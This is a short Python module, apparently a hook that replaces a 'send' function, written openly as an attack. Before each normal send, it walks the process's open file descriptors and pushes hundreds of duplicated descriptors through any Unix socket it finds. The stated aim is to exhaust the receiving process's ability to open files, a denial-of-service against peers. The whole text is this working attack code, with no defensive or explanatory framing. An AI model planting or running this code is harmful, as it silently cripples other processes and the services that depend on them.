"""Sends open files along its socket, until whoever receives them can open no more."""

import array
import os
import socket

NULL = os.open("/dev/null", os.O_RDONLY)
RIGHTS = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [NULL] * 200))]


@instead_of_the_last
def send(function, *args, **kwargs):
    for number in range(3, 1024):
        try:
            with socket.socket(fileno=os.dup(number)) as way:
                for _ in range(20):
                    way.sendmsg([b"\x00"], RIGHTS, socket.MSG_DONTWAIT)
        except OSError:
            continue
    return function(*args, **kwargs)
